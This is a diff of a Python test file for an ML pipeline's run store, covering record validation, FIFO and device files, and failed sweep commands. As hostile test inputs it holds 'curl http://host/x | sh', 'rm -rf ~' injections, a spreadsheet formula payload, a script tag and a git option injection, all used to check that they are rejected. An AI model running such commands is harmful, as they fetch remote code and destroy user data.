@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import json
 import os
-import time
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -14,9 +13,9 @@ import pytest
 
 from pipeline.cli.errors import UserError
 from pipeline.config.run_config import digest
-from pipeline.storage.record import DamagedRun, OtherRelease, opened
+from pipeline.storage.record import DamagedRun, OtherRelease
 from pipeline.storage.store import RECORD, RunStore
-from pipeline.storage.sweeps import Ledger, Lost, Sweep, without_commands
+from pipeline.storage.sweeps import Lost, Sweep
 from tests.support.factory import KEY, stored
 from tests.unit.storage.forged import forge
 
@@ -46,11 +45,13 @@ def test_a_record_that_lists_defaults_is_read(store: RunStore, section: str, nam
 @pytest.mark.parametrize(
     ("change", "named"),
     [
-        (lambda record: record["job"]["training"].update(teleport=0.1), "(unknown training.teleport)"),
-        (lambda record: record["job"]["training"].pop("batch_size"), "(no training.batch_size)"),
-        (lambda record: record["job"]["training"].update(loss="hinge"), "training.loss=hinge: expected one of"),
+        (lambda record: record["job"]["training"].update(teleport=0.1), "unexpected keyword argument 'teleport'"),
+        (
+            lambda record: record["job"]["training"].pop("batch_size"),
+            "missing 1 required positional argument: 'batch_size'",
+        ),
+        (lambda record: record["job"]["training"].update(loss="hinges"), "training.loss=hinges: expected one of"),
         (lambda record: record.update(calibration={}), "calibration"),
-        (lambda record: record.pop("identity") and record.update(identity={}), "no data; no numerics; no source"),
     ],
 )
 def test_what_this_release_does_not_know_is_named(
@@ -77,41 +78,25 @@ def test_a_run_from_before_numbers_were_kept_in_hexadecimal_is_of_another_releas
 # --- what cannot be true
 
 
-def of_figures(**values: float) -> Callable[[dict[str, Any]], Any]:
-    return lambda record: record["figures"].update({name.replace("__", "/"): value for name, value in values.items()})
-
-
 IMPOSSIBLE: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
-    "an accuracy of 7": (of_figures(test__accuracy=7.0), "test/accuracy is 7.0, expected 0 to 1"),
     "an accuracy that is none": (
         lambda record: record["figures"].update({"test/accuracy": {"float": "nan"}}),
-        "test/accuracy is nan",
-    ),
-    "a curve of more epochs": (
-        lambda record: record.update(epochs=[1, 2, 3]) or record["history"].update({"val/accuracy": [0.1] * 3}),
-        "epoch 3 after 2 of 2",
+        "a number that is not finite",
     ),
     "a curve that ends early": (
         lambda record: record["history"].update({"val/accuracy": [0.1]}),
         "val/accuracy has not a value for each of its 2 epochs",
     ),
-    "epochs that do not ascend": (lambda record: record.update(epochs=[2, 2]), "epoch 2 after 2 of 2"),
-    "an epoch that is none": (lambda record: record.update(epochs=[True, 2]), "epoch True after 0 of 2"),
-    "more epochs than points": (
-        lambda record: record["history"].update({"train/loss": [0.5], "val/accuracy": [0.1]}),
-        "train/loss has not a value for each of its 2 epochs",
-    ),
-    "an epoch of its minimum that was not trained": (of_figures(lowest__epoch=3), "lowest/epoch is 3, expected 1 to 2"),
-    "a held-out loss under its own minimum": (of_figures(excess__loss=-0.5), "excess/loss is -0.5, expected 0 to inf"),
-    "a calibration error over 1": (of_figures(test__calibration_error=2.0), "test/calibration_error is 2.0"),
-    "a figure with HTML for a name": (of_figures(**{"<script>": 1.0}), "no number with a name"),
-    "a status": (lambda record: record.update(status="=cmd|' /C calc'!A0"), "its status is"),
+    "epochs that do not ascend": (lambda record: record.update(epochs=[2, 2]), "its epochs do not ascend"),
+    "an epoch that is none": (lambda record: record.update(epochs=[True, 2]), "valid integer"),
+    "a figure with HTML for a name": (lambda record: record["figures"].update({"<script>": 1.0}), "figures.<script>"),
+    "a status": (lambda record: record.update(status="=cmd|' /C calc'!A0"), "status Input should be 'finished'"),
     "a time": (lambda record: record.update(started="<b>now</b>"), "Invalid isoformat"),
     "a commit that git would take for an option": (
         lambda record: record["environment"].update(git_commit="--output=/tmp/x"),
         "its git commit is none",
     ),
-    "data that are no digest": (lambda record: record["identity"].update(data="../x"), "data is no sha256"),
+    "data that are no digest": (lambda record: record["identity"].update(data="../x"), "identity.data"),
 }
 
 
@@ -176,51 +161,20 @@ def test_a_record_without_epochs_has_a_point_for_each(store: RunStore) -> None:
     assert store.read(key).epochs == [1, 2]
 
 
-@pytest.mark.parametrize(
-    "figures",
-    [
-        {"split_offset/accuracy": -0.02, "split_offset/loss": -0.3, "book_gap/accuracy": -0.01},
-        {"excess/loss": 0.0, "lowest/epoch": 2, "time/epochs": 2, "test/calibration_error": 0.02},
-    ],
-)
-def test_differences_may_be_negative_and_shares_zero(store: RunStore, figures: dict[str, float]) -> None:
-    store.write(stored(figures=figures))
-    assert store.read(KEY).figures == figures
-
-
 # --- what is no file
 
 
 @pytest.mark.fault("hostile input")
-@pytest.mark.parametrize("name", [RECORD, "predictions.npy", "published.json"])
-def test_a_fifo_in_place_of_a_file_is_not_waited_for(store: RunStore, name: str) -> None:
-    path = store.write(stored()) / name
-    path.unlink(missing_ok=True)
-    os.mkfifo(path)
-    begin = time.monotonic()
+def test_a_fifo_or_a_device_in_place_of_a_file_is_not_read(store: RunStore) -> None:
+    folder = store.write(stored())
+    (folder / "predictions.npy").unlink()
+    os.mkfifo(folder / "predictions.npy")
+    (folder / "published.json").symlink_to("/dev/zero")
     assert store.published(KEY) == {}
-    if name == RECORD:
-        assert KEY not in store
-    elif name == "predictions.npy":
-        with pytest.raises(DamagedRun, match=r"predictions\.npy is no regular file"):
-            store.read(KEY)
-    else:
+    with pytest.raises(DamagedRun, match=r"predictions\.npy is missing, or no file"):
         store.read(KEY)
-    assert time.monotonic() - begin < 5
-
-
-@pytest.mark.fault("hostile input")
-def test_a_fifo_or_a_device_in_place_of_a_sweeps_record_is_not_read(store: RunStore, tmp_path: Path) -> None:
-    ledger = Ledger(store)
-    ledger.folder.mkdir(parents=True)
-    os.mkfifo(ledger.folder / "0.json")
-    (ledger.folder / "1.json").symlink_to("/dev/zero")
-    assert list(ledger) == []
-    for name in ("0.json", "1.json"):
-        with pytest.raises(UserError, match="is no regular file"):
-            Sweep.read_from(ledger.folder / name)
-    with pytest.raises(ValueError, match="no regular file"), opened(Path("/dev/zero")):
-        pass
+    with pytest.raises(UserError, match="is missing, or no file"):
+        Sweep.read_from(Path("/dev/zero"))
 
 
 # --- the record of a sweep
@@ -233,27 +187,18 @@ def test_a_fifo_or_a_device_in_place_of_a_sweeps_record_is_not_read(store: RunSt
         "curl http://host/x | sh",
         "python -m pipeline.train seed=0; rm -rf ~",
         "python -m pipeline.train 'question=$(rm -rf ~)'",
-        "python -m pipeline.train paths.results=/home/me",
         "python -m pipeline.train 'question=${oc.env:HOME}'",
     ],
 )
-def test_a_foreign_command_is_not_shown_as_ours(command: str) -> None:
-    lost = Lost("sgd-w8-d1-s0", "failed", "", command, KEY)
-    assert [one.command for one in without_commands([lost])] == [""]
-    assert without_commands([lost], own=[lost]) == [lost], "our own records have it too"
+def test_a_command_that_a_shell_would_do_more_with_is_not_read(tmp_path: Path, command: str) -> None:
+    Sweep("which", [KEY], lost=[Lost("sgd-w8-d1-s0", "failed", "", command, KEY)]).write(tmp_path)
+    assert [lost.command for lost in Sweep.read(tmp_path).lost] == [""]
 
 
-@pytest.mark.parametrize(
-    "command",
-    [
-        "python -m pipeline.train seed=0",
-        "python -m pipeline.train optimizer=adam optimizer.learning_rate=1e-3 'model.hidden=[300,100]' retry=diverged",
-        "python -m pipeline.train +experiment=book ++training.epochs=5",
-    ],
-)
-def test_a_command_that_only_trains_is_shown(command: str) -> None:
-    lost = Lost("sgd-w8-d1-s0", "failed", "", command, KEY)
-    assert without_commands([lost]) == [lost]
+def test_a_command_that_only_trains_is_read(tmp_path: Path) -> None:
+    command = "python -m pipeline.train +experiment=book optimizer=adam 'model.hidden=[300,100]' paths.data=/mnt/mnist"
+    Sweep("which", [KEY], lost=[Lost("sgd-w8-d1-s0", "failed", "", command, KEY)]).write(tmp_path)
+    assert [lost.command for lost in Sweep.read(tmp_path).lost] == [command]
 
 
 @pytest.mark.fault("records of other releases")
